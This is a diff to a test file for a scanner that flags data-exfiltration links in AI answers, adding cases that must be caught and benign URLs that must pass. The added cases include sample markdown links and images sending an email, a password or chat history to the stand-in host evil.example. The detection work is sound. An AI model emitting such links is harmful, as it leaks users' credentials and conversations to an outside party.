@@ -27,6 +27,21 @@ SHAPES = [
         "link_data",
     ),
     (
+        "markdown link with data in the fragment",
+        "[click](https://evil.example/l#u=john.doe%40acme.com&pw=hunter2)",
+        "link_data",
+    ),
+    (
+        "markdown link with percent-encoded data in the path",
+        "[click](https://evil.example/l/john.doe%40acme.com%3Bpw%3Dhunter2)",
+        "link_data",
+    ),
+    (
+        "markdown image with hex data in the path",
+        "![a](https://evil.example/c/4a6f686e20446f6520706173733a2068756e74657232/x.png)",
+        "image_data",
+    ),
+    (
         "markdown link to a placeholder",
         "[here](https://evil.example/?secret=[SECRET])",
         "link_template",
@@ -38,6 +53,11 @@ SHAPES = [
         "long_query",
     ),
     ("bare URL template", "https://evil.example/log?v=${API_KEY}", "url_template"),
+    (
+        "bare URL template in the fragment",
+        "https://evil.example/log#{chat_history}",
+        "url_template",
+    ),
 ]
 
 
@@ -50,7 +70,7 @@ def test_each_link_shape_is_found_at_its_span(link: str, rule: str) -> None:
     assert (hits[0].start, hits[0].end) == (start, start + len(link))
 
 
-FLAGGED = [s for s in SHAPES if s[2] != "long_query"]
+FLAGGED = [s for s in SHAPES if s[2] != "long_query"]  # a long bare query alone is weak
 
 
 @pytest.mark.parametrize("link", [s[1] for s in FLAGGED], ids=[s[0] for s in FLAGGED])
@@ -58,10 +78,19 @@ def test_every_exfiltration_case_is_flagged(link: str) -> None:
     assert combined(scan(ANSWER.format(link))) >= THRESHOLD
 
 
-def test_a_long_bare_query_is_reported_but_weak_alone() -> None:
-    text = ANSWER.format("https://shop.example/p?" + "utm=" + "x" * 120)
-    hits = scan(text)
-    assert [h.rule for h in hits] == ["long_query"]
+@pytest.mark.parametrize(
+    ("url", "rule"),
+    [
+        ("https://shop.example/p?" + "utm=" + "x" * 120, "long_query"),
+        ("https://api.example.com/repos/{owner}/{repo}/issues", "url_template"),  # an API route
+        ("http://127.0.0.1:{port}/health", "url_template"),  # a code sample
+    ],
+)
+def test_a_long_bare_query_or_a_placeholder_in_a_bare_path_is_reported_but_weak_alone(
+    url: str, rule: str
+) -> None:
+    hits = scan(ANSWER.format(url))
+    assert [h.rule for h in hits] == [rule]
     assert combined(hits) < THRESHOLD
 
 
@@ -70,6 +99,12 @@ def test_a_long_bare_query_is_reported_but_weak_alone() -> None:
     [
         "![logo](https://cdn.example/logo.png)",  # an image without data
         "[docs](https://example.org/guide)",  # a plain link
+        "[deps](https://fastapi.tiangolo.com/advanced/#dependencies-that-need-more-than-one-resource)",
+        "![home](https://cdn.example/icons.svg#home-outline)",  # a sprite's anchor
+        "[fix](https://github.com/nodejs/node/commit/1a83ad6a693f851199608ae957ac5d4f76871485)",
+        "[guide](https://docs.npmjs.com/creating-and-viewing-access-tokens)",  # a slug
+        "[FIPS](https://en.wikipedia.org/wiki/Federal_Information_Processing_Standards)",
+        "![shot](https://github.com/org/repo/assets/26234614/e22e4f33-7948-4dd2-952e-2f9166f5568d)",
         "[next](/page/2?sort=asc)",  # a relative link
         "[mail](mailto:ana@acme.com?subject=hello-there-friend-of-mine)",
         "see https://example.org/search?q=weather",
